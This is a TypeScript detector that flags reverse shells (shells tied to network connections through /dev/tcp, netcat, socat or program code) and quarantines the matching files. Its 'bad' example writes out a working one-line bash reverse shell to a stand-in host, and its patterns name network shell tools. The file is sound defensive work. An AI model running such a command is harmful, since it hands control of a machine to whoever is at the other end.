import type { Detector, Place, ScannedFile } from '../../detector.ts';
import { traits } from '../../helpers/commands/remoteShells.data.ts';
import { givesAway, interactive, isConnection, isShell } from '../../helpers/commands/remoteShells.ts';
import { pipelinesOf } from '../../helpers/commands/shell.ts';
import { commandLinesOf, linesOf } from '../../helpers/text/lines.ts';
import { isMarkdown, withoutWarnings } from '../../helpers/text/warnings.ts';

export const reverseShell: Detector = {
  id: 'reverse-shell',
  severity: 'critical',
  consequence: 'quarantine',
  isTaught: true,
  summary: 'A shell is tied to a network connection.',
  explanation:
    'A shell whose input and output are a connection hands the machine to whoever is at the other end. The ways to do ' +
    'that in shells, netcat, socat, Python, Perl, Ruby, PHP, Node.js, Go and PowerShell are known by their shape, in one ' +
    'line or in a few that belong together. Left out are mentions without an address, addresses that are placeholders, ' +
    'such as HOST, and code that a sentence forbids; to see whether a port is open with /dev/tcp is fine. No skill ' +
    'needs this: for remote work, name ssh.',
  examples: {
    bad: { path: 'setup.sh', text: 'bash -i >& /dev/tcp/shell.example/4444 0>&1\n' },
    good: { path: 'setup.sh', text: 'until (echo > /dev/tcp/db.example/5432) 2>/dev/null; do sleep 1; done\n' },
  },
  inspect: shellsIn,
};

const mayConnect = /\/dev\/(?:tcp|udp)|\bn(?:et)?cat|\bnc\b|socat|telnet|s_client|sock|net\.|<&|\/inet\//i;

function* shellsIn(file: ScannedFile): Generator<Place> {
  if (!file.isText || !mayConnect.test(file.text)) return;
  const { text } = withoutWarnings(file);
  const places = new Map<number, string>();
  for (const place of [...inCommands(text), ...inPrograms(text, isMarkdown(file.path))]) {
    if (!places.has(place.line)) places.set(place.line, place.message);
  }
  for (const [line, message] of [...places].sort(([a], [b]) => a - b)) yield { line, message };
}

/** How many lines a program may take to do it. */
const reach = 15;

function* inCommands(text: string): Generator<Place> {
  let opened: { line: number; descriptor: string } | undefined;
  let isRead = false;
  let fifo = -reach - 1;
  for (const { number, text: line } of commandLinesOf(text)) {
    if (/\bmkfifo\b|\bmknod\s/.test(line)) fifo = number;
    const descriptor = /\bexec\s{1,9}(\d{1,3})<>\s{0,9}["']?\/dev\/(?:tcp|udp)\//.exec(line)?.[1];
    if (descriptor !== undefined && hasPeer(line)) opened = { line: number, descriptor };
    const isNear = opened !== undefined && number - opened.line <= reach;
    const isOpened =
      isNear && opened !== undefined && (runsOver(line, opened.descriptor) || (isRead && runsWhatItRead(line)));
    isRead ||= isNear && /<&/.test(line) && readsLines(line);
    const message = messageFor(line, number - fifo <= reach);
    if (message !== undefined) yield { line: number, message };
    else if (isOpened) yield { line: number, message: 'A shell takes its commands from a network connection.' };
  }
}

/** Whether a /dev/tcp has a host and a port that are more than placeholders. */
const hasPeer = (line: string): boolean =>
  /\/dev\/(?:tcp|udp)\/(?:["']?\$|["']?(?:[\w-]{1,63}\.){1,9}[\w-]{1,63}["']?\/|localhost\/|0x|\d{6,10}\/|\[?[0-9a-f]{0,4}:[0-9a-f:]{2,40})["']?/i.test(
    line,
  );

function messageFor(line: string, hasFifo: boolean): string | undefined {
  if (/\/dev\/(?:tcp|udp)\//.test(line) && hasPeer(line)) {
    const isBoth = /0\s{0,2}[<>]&\s{0,2}\d|<&\s{0,2}1|[<>]&\s{0,2}0/.test(line);
    const isShell =
      /\b(?:ba|z|da|k)?sh\b["']?\s{0,9}(?:-\w{1,5}\s{0,9})?(?:[<>&\d]{1,5}\s{0,9})["']?\/dev\/(?:tcp|udp)\//.test(line);
    if (interactive.test(line) || (isBoth && isShell)) return 'A shell is tied to a network connection (/dev/tcp).';
    if (readsLines(line) && /\bexec\s{1,9}\d{1,3}<>/.test(line) && runsWhatItRead(line)) {
      return 'A shell takes its commands from a network connection.';
    }
  }
  if (/\bsh["']?\s{1,9}-i\s{0,9}<&\s{0,3}(?:\d|%d|\$|["'])/.test(line))
    return 'A shell is tied to a connection that a program opened.';
  if (!/\bn(?:et)?cat|\bnc\b|socat|telnet|s_client/i.test(line)) return undefined;
  for (const stages of pipelinesOf(line)) {
    if (stages.some(givesAway)) return 'A network tool is told to run a shell for the other end.';
    const isFed = stages.some(
      (stage, at) => isConnection(stage) && (isShell(stages[at + 1]) || isShell(stages[at - 1])),
    );
    const ends = stages.filter(isConnection).length;
    const isInteractive = stages.some((stage) => isShell(stage) && interactive.test(stage));
    if (isFed && (hasFifo || ends > 1 || isInteractive)) return 'A shell is piped into a network connection.';
    if (stages.some((stage, at) => isConnection(stage) && isShell(stages[at + 1])))
      return 'A shell takes its commands from a network connection.';
  }
  return undefined;
}

/** Whether a line runs what comes in by a descriptor: `bash <&5`, `cat <&5 | while read line; do $line >&5; done`. */
function runsOver(line: string, descriptor: string): boolean {
  for (const [, from] of line.matchAll(/<&\s{0,2}(\d{1,3})/g)) {
    if (from !== descriptor) continue;
    if (/\b(?:ba|z|da|k)?sh\b(?:\s{1,9}-\w{1,5})?\s{0,9}<&/.test(line)) return true;
    if (readsLines(line) && runsWhatItRead(line)) return true;
  }
  return false;
}

const readsLines = (line: string): boolean => /\bwhile\b/.test(line) && /\bread\b/.test(line);

const runsWhatItRead = (line: string): boolean =>
  /\beval\s|(?:^|\bdo|;)\s{0,40}["']?\$\{?\w|\bsh\s{1,9}-c\s/.test(line);

/** In documentation it stands for an address, and connects to nothing. In a program it may be filled in. */
const quotedGap = /["'](?:ATTACKER|LHOST|RHOST|KALI|YOUR|TARGET)(?:_\w{1,20})?["']/;

/** Programs that have all traits of one way within a few lines. The place is where they connect. */
function* inPrograms(text: string, mayBeGap: boolean): Generator<Place> {
  const ways = traits.filter(({ signs }) => signs.every((sign) => sign.test(text)));
  if (ways.length === 0) return;
  const seen = ways.map(({ signs }) => signs.map(() => -reach - 1));
  for (const { number, text: line } of linesOf(text)) {
    for (const [way, { signs, language }] of ways.entries()) {
      const lines = seen[way] ?? [];
      let isNew = false;
      for (const [at, sign] of signs.entries()) {
        if (!sign.test(line)) continue;
        lines[at] = number;
        isNew = true;
      }
      if (!isNew || lines.some((last) => number - last > reach)) continue;
      if (!(mayBeGap && lines[0] === number && quotedGap.test(line)))
        yield { line: lines[0] ?? number, message: `${language} code ties a shell to a network connection.` };
      lines.fill(-reach - 1);
    }
  }
}
